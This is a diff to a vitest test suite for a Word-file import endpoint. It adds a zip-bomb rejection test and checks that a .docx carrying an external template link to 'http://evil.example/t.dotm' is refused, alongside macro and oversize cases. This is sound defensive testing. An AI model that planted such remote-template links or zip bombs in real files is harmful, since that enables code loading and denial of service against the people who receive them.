@@ -4,6 +4,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Unit } from '../../server/db/units.repository.js';
 import { makeMember, makeUnit, type TestMember } from '../helpers/factories.js';
 import { expectProblem, startTestApp, type TestApp } from '../helpers/test-app.js';
+import { zipBombDocx } from '../helpers/docx-files.js';
 import { memberFile, type Piece } from '../helpers/word-review-files.js';
 
 let t: TestApp;
@@ -93,6 +94,8 @@ describe('importing a member’s Word file', () => {
     expectProblem(await send(roundId, alice, Buffer.from('%PDF-1.4\n%%EOF\n')), 415, 'unsupported_media_type');
     expectProblem(await send(roundId, alice, 'không phải base64!'), 400, 'validation_failed');
     expectProblem(await send(roundId, alice, Buffer.concat([Buffer.from('%PDF-'), Buffer.alloc(10 * 1024 * 1024)])), 413, 'too_large');
+    // A zip bomb: a small file whose document.xml declares 101 MiB, refused before it is inflated.
+    expect(expectProblem(await send(roundId, alice, await zipBombDocx(101)), 413, 'too_large').fileProblem).toBe('unpacks_too_large');
     const macro = await JSZip.loadAsync(await memberFile(marked));
     macro.file('word/vbaProject.bin', Buffer.alloc(16));
     expectProblem(await send(roundId, alice, await macro.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type');
@@ -102,7 +105,7 @@ describe('importing a member’s Word file', () => {
       'word/_rels/document.xml.rels',
       rels.replace('</Relationships>', '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'),
     );
-    expectProblem(await send(roundId, alice, await external.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type');
+    expect(expectProblem(await send(roundId, alice, await external.generateAsync({ type: 'nodebuffer' })), 415, 'unsupported_media_type').fileProblem).toBe('external_content');
     const broken = await JSZip.loadAsync(await memberFile(marked));
     broken.file('word/document.xml', '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>');
     expectProblem(await send(roundId, alice, await broken.generateAsync({ type: 'nodebuffer' })), 400, 'validation_failed');
